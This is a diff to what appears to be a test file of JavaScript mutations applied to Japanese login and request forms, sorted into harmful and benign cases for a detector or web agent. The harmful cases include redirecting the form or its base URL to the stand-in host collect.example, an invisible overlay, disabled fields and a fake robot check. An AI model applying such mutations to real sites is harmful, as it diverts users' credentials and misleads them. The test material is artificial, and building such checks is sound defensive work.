@@ -51,6 +51,8 @@ HARMFUL = [
         "part_renamed",
         {
             "caption of the ID reworded": "return recaption(w.id, '利用者番号')",
+            "caption of the ID with an alternative": "return recaption(w.id, w.id + 'またはメールアドレス')",
+            "caption of a former ID": "return recaption(w.id, '旧' + w.id)",
             "caption of the password reworded": "return recaption(w.password, 'パスコード')",
             "link to the reset reworded": "return reword(thing(w.reset), 'パスワードをお忘れの方')",
             "link to the reset named like the button behind it": "return reword(thing(w.reset), w.reset + '依頼')",
@@ -145,6 +147,9 @@ HARMFUL = [
             "field of the ID disabled": "entry(1).disabled = true; entry(1).setAttribute('disabled', '')",
             "field of the ID read-only": "entry(1).setAttribute('readonly', '')",
             "second field disabled": "entry(2).setAttribute('disabled', '')",
+            "all fields disabled": "const old = form(); if (old === doc.body) return null;"
+            "const set = doc.createElement('fieldset'); set.setAttribute('disabled', '');"
+            "set.append(...old.childNodes); old.append(set)",
             "field of the ID inert": "entry(1).setAttribute('inert', '')",
         },
     ),
@@ -191,6 +196,9 @@ HARMFUL = [
             "new field marked 必須": "addRow('生年月日', '<input name=x>', {mark: ' <span>必須</span>'})",
             "new field that must be filled in": "addRow('電話番号', '<input name=x required>')",
             "new field that says nothing": "addRow('氏名', '<input name=x>')",
+            "new date": "addRow('生年月日', '<input type=date required>')",
+            "new file": "addRow('本人確認書類', '<input type=file required>')",
+            "new choice of two": "addRow('区分', '<input type=radio name=z>個人 <input type=radio name=z>法人')",
             "new choice with nothing chosen": "addRow('都道府県', "
             "'<select name=x><option value=\"\">選択</option><option>東京</option></select>')",
             "new box that must be ticked": "addRow('区分', '<input type=checkbox name=x required>事業者')",
@@ -215,6 +223,7 @@ HARMFUL = [
         {
             "letters of a picture asked for": "addRow('画像に表示されている文字', '<input name=x>')",
             "picture of 画像認証": "form().append(make('<p>画像認証</p>'))",
+            "box of a robot check": "form().append(make('<label><input type=checkbox>私はロボットではありません</label>'))",
             "frame of a robot check": "form().append(make('<iframe title=\"reCAPTCHA\" width=300 height=80></iframe>'))",
         },
     ),
@@ -230,6 +239,7 @@ HARMFUL = [
         BOTH,
         "part_covered",
         {
+            "mask without words": "append('<div style=\"position:absolute;top:0;left:0;width:100%;height:4000px;z-index:9\"></div>')",
             "dialog that must be closed": "append('<dialog id=d><p>重要なお知らせ</p><button>閉じる</button></dialog>"
             '<script>document.getElementById("d").showModal()</script>\')',
             "field that takes no click": "entry(2).style.pointerEvents = 'none'",
@@ -259,7 +269,9 @@ HARMFUL = [
         BOTH,
         "leads_elsewhere",
         {
-            "form that leads to another site": "if (form() === doc.body) return null; form().setAttribute('action', 'https://collect.example/take')"
+            "base of another site": "if (form() === doc.body) return null;"
+            "doc.head.prepend(make('<base href=\"https://collect.example/\">'))",
+            "form that leads to another site": "if (form() === doc.body) return null; form().setAttribute('action', 'https://collect.example/take')",
         },
     ),
     *_harmful(
@@ -310,6 +322,9 @@ HARMFUL = [
 _BENIGN = {
     ALL: {
         "news added": "append('<ul><li>2026年11月20日 年末年始の受付について</li></ul>')",
+        "way of the screens": "prepend(`<ol><li><a href='/'>ホーム</a></li><li>${w.heading}</li></ol>`)",
+        "past maintenance in a list of definitions": "append('<dl><dt>11月1日</dt><dd>メンテナンスは終了しました</dd></dl>')",
+        "news in half-width letters": "append('<p>ﾒﾝﾃﾅﾝｽのお知らせ 3月1日</p>')",
         "maintenance announced": "append('<ul><li>12月5日(土) メンテナンス作業のお知らせ（予定）</li></ul>')",
         "colours": "doc.body.style.cssText = 'background:#eef;color:#223'",
         "larger letters": "doc.body.style.fontSize = '17px'",
@@ -377,6 +392,7 @@ _BENIGN = {
     },
     (REQUEST,): {
         "back before the request": "const back = thing('戻る'); form().prepend(back)",
+        "button to clear": "form().append(make('<button type=reset>クリア</button>'))",
         "back gone": "thing('戻る').remove()",
         "button in an outer box": "const old = thing(w.send); const box = doc.createElement('span'); old.replaceWith(box); box.append(old)",
         "mail field as of today": "entry(2).type = 'email'",
